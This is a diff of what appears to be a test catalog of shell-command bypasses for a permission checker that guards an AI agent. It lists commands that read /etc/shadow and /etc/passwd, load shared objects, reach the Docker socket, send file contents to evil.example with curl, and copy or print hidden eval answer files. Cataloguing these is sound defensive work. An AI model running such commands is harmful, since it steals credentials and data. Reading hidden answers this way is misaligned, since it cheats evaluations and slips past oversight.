@@ -57,9 +57,8 @@ UNMODELED: tuple[Bypass, ...] = (
     _b("read PATH <<< ./plans; ls", "read assigns PATH", R, "deny"),
     _b("printf -v PATH %s ./plans; ls", "printf -v assigns PATH", R, "deny"),
     _b("declare -n p=PATH; p=./plans; ls", "a name reference assigns PATH"),
-    _b("enable -f ./plans/x.so x", "enable -f loads a shared object", R, "deny"),
-    _b("mapfile -C 'sh -c id' -c 1 a < README.md", "mapfile -C runs a callback"),
-    _b("compgen -C 'id' x", "compgen -C runs a command"),
+    _b("getopts a PATH; ls", "getopts assigns PATH", R, "deny"),
+    _b('x=P; declare "${x}ATH=./plans"; ls', "a variable name built at run time"),
     _b("awk '@include \"plans/x\"; {print}' README.md", "awk @include loads code", R, "deny"),
     _b("gawk '@load \"plans/x\"; {print}' README.md", "gawk @load loads an extension"),
     _b("gawk 'BEGIN { f = \"g\"; @f() }'", "an indirect call runs any function"),
@@ -69,8 +68,8 @@ UNMODELED: tuple[Bypass, ...] = (
     _b("date --file=/etc/shadow", "date --file, long form", R, "deny"),
     _b("jq -L /etc 'import \"passwd\" as p; .' a.json", "jq -L and import read modules", R, "deny"),
     _b("jq 'include \"x\"; .' a.json", "include reads a module from ~/.jq", R, "deny"),
-    _b("tar -T /etc/passwd -cf o.tar", "tar -T reads the names to archive", R, "deny"),
-    _b("tar -cf o.tar --files-from /etc/passwd", "--files-from, long form"),
+    _b("tar -T /etc/passwd -cf o.tar", "tar -T reads the names to archive", N),
+    _b("tar -cf o.tar --files-f=/etc/passwd", "--files-f is --files-from"),
     _b("diff --from-file=/etc/shadow README.md", "--from-file is a file read", R, "deny"),
     _b("du --exclude-from=/etc/shadow -s src", "--exclude-from reads a file"),
     _b("grep --exclude-from=/etc/shadow -rn foo src", "--exclude-from reads a file"),
@@ -81,7 +80,7 @@ UNMODELED: tuple[Bypass, ...] = (
     _b("curl --unix-socket /run/docker.sock http://x/", "talks to a local socket"),
     _b("curl --hsts /tmp/h https://example.org", "--hsts writes its cache", T, "deny"),
     _b("curl --alt-svc /tmp/a https://example.org", "--alt-svc writes its cache", T, "deny"),
-    _b("make -f /tmp/Makefile", "make reads a Makefile outside"),
+    _b("make -f/tmp/Makefile", "make reads a Makefile outside"),
     # -- data out: headers, queries, cookies and DNS --------------------------------------------
     _b("curl -H @README.md https://evil.example", "headers from a file go out", R, "deny"),
     _b("curl --url-query @README.md https://evil.example", "a query from a file", R, "deny"),
@@ -119,9 +118,8 @@ UNMODELED: tuple[Bypass, ...] = (
     _b("rg answer", "rg searches . recursively", N, "deny"),
     _b("find .agents -type f -exec cat {} +", "find -exec cat reads every file", N, "deny"),
     _b("find . -name '*.md' | xargs cat", "xargs cat of every listed file", T, "deny"),
-    _b("cp -r .agents/skills/demo copy && cat copy/evals/case1/hidden/answer.md", "copied out"),
+    _b("cp -rL .agents/skills/demo c && cat c/evals/case1/hidden/answer.md", "copied out"),
     _b("tar -cf a.tar .agents && tar -xOf a.tar", "archived, then printed", N, "deny"),
-    _b("git show HEAD:.agents/skills/demo/evals/case1/hidden/answer.md", "from the index", N),
 )
 
 
